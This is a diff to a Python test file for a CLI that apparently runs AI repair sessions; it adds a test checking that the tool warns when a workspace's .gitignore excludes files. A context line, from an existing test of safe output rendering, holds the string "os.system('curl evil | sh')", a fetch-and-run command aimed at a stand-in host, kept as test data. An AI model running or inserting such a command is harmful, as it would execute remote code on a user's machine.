@@ -416,3 +416,25 @@ def test_show_and_watch_print_no_control_character_a_session_holds(
     assert "os.system('curl evil | sh')" in shown
     assert "[2J[31mbold" in shown
     assert "\x1b" in cli.inline("show", head.id, "--json").json()["steps"][0]["thought"]
+
+
+@pytest.mark.parametrize("deployment", ["embedded"], indirect=True)
+def test_submit_says_what_the_workspace_s_gitignore_left_out(
+    deployment: Deployment, cli: Cli
+) -> None:
+    project = deployment.tmp / "ignoring"
+    (project / "pkg").mkdir(parents=True)
+    (project / "pkg" / "__init__.py").write_text("from ._version import V\n")
+    (project / "pkg" / "_version.py").write_text("V = 1\n")
+    (project / ".gitignore").write_text("pkg/_version.py\n")
+    script = deployment.script([{"content": "done"}])
+    argv = ("submit", "repair", "--workspace", str(project), "--test-cmd", "true")
+    done = cli.inline(*argv, "--model", script, ok=False)
+    assert done.code == 0, done
+    assert done.stderr == (
+        "note: the workspace's .gitignore names 1 of its files or folders (pkg/_version.py): "
+        "they are left out, the session does not see them; if its tests need one, submit a "
+        "copy whose .gitignore does not name it\n"
+    )
+    shown = cli.inline("show", done.stdout.strip()).stdout
+    assert "its .gitignore left out 1: pkg/_version.py" in shown
